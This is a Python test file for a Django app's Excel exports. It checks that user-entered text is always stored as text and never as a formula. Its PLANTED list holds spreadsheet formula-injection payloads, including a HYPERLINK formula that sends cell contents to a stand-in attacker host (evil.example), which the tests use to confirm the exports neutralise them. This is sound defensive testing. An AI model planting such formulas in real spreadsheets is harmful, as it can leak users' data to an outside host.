"""F3: text a user typed is written to every Excel export as text, never as a formula."""

import io

import pytest
from openpyxl import load_workbook

from facilities.tests.helpers import facility, point
from people.tests.io_helpers import ALICE_UNIT, import_rows, person
from shequ import xlsx
from shequ.testing.world import BOB_UNIT, World

PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def _cells(data: bytes) -> list:
    book_ = load_workbook(io.BytesIO(data))
    return [cell for sheet in book_.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(data: bytes, planted: list[str]) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    planted = [text.replace("\r", "\n") for text in planted]  # XML reads a carriage return as a line feed
    found = {c.value: c for c in cells if c.value in planted}
    assert set(found) == set(planted), "every planted text is in the file, as it was typed"
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_it_writes_text_that_looks_like_a_formula_as_text() -> None:
    stream = io.BytesIO()
    xlsx.write_table(stream, ["值", "数"], [[text, 7] for text in PLANTED] + [["#N/A", 1], ["a\x00b", 2]], title="t")
    _assert_text_only(stream.getvalue(), PLANTED)
    cells = _cells(stream.getvalue())
    assert [c.value for c in cells if c.column == 2 and c.row > 1][:2] == [7, 7] and cells[3].data_type == "n"
    assert any(c.value == "#N/A" and c.data_type == "s" for c in cells)
    assert any(c.value == "ab" for c in cells), "a control character a workbook cannot hold is dropped, not fatal"


@pytest.mark.django_db
def test_it_exports_the_register_with_planted_addresses_as_text(world: World, login) -> None:
    from people.models import Resident

    import_rows([person(n) for n in range(1, len(PLANTED) + 1)])
    for resident, text in zip(Resident.objects.order_by("pk"), PLANTED, strict=True):
        Resident.objects.filter(pk=resident.pk).update(current_address=text)
    response = login(world.alice).get("/people/export/")
    assert response.status_code == 200
    _assert_text_only(response.content, PLANTED)


@pytest.mark.django_db
def test_it_writes_the_import_error_report_with_planted_values_as_text(world: World) -> None:
    from openpyxl import Workbook

    from people.importers import HEADERS, ResidentImporter, write_errors

    upload = Workbook()
    sheet = upload.active
    assert sheet is not None
    sheet.append(HEADERS)
    for n, text in enumerate(PLANTED, start=1):
        sheet.append([person(n, 性别=text).get(h, "") for h in HEADERS])
        sheet.cell(row=n + 1, column=HEADERS.index("性别") + 1).data_type = "s"  # typed as text, as in Excel
    data = io.BytesIO()
    upload.save(data)
    result = ResidentImporter(actor=world.alice).import_file(io.BytesIO(data.getvalue()))
    assert not result.ok
    stream = io.BytesIO()
    write_errors(stream, result)
    _assert_text_only(stream.getvalue(), sorted({text.strip() for text in PLANTED}))


@pytest.mark.django_db
def test_it_exports_facilities_and_points_with_planted_names_as_text(world: World, login) -> None:
    for text in PLANTED:
        facility(BOB_UNIT, text)
        point(BOB_UNIT, text)
    client = login(world.carl)
    _assert_text_only(client.get("/facilities/export/").content, PLANTED)
    _assert_text_only(client.get("/facilities/points/export/").content, PLANTED)


@pytest.mark.django_db
def test_it_exports_workers_with_planted_names_as_text(world: World, login) -> None:
    from workforce.tests.factories import worker

    for text in PLANTED:
        worker(ALICE_UNIT, "committee_member", name=text)
    response = login(world.alice).get(f"/workforce/units/{ALICE_UNIT}/export/")
    assert response.status_code == 200
    _assert_text_only(b"".join(response.streaming_content) if response.streaming else response.content, PLANTED)


@pytest.mark.django_db
def test_it_exports_disaster_officers_with_planted_names_as_text(world: World, login) -> None:
    import datetime as dt

    from care.models import DisasterOfficer

    for text in PLANTED:
        DisasterOfficer.objects.create(unit_id=BOB_UNIT, name=text[:50], appointed_on=dt.date(2025, 1, 1))
    response = login(world.bob).get(f"/care/emergency/{BOB_UNIT}/export.xlsx")
    assert response.status_code == 200
    _assert_text_only(b"".join(response.streaming_content) if response.streaming else response.content,
                      [text[:50] for text in PLANTED])
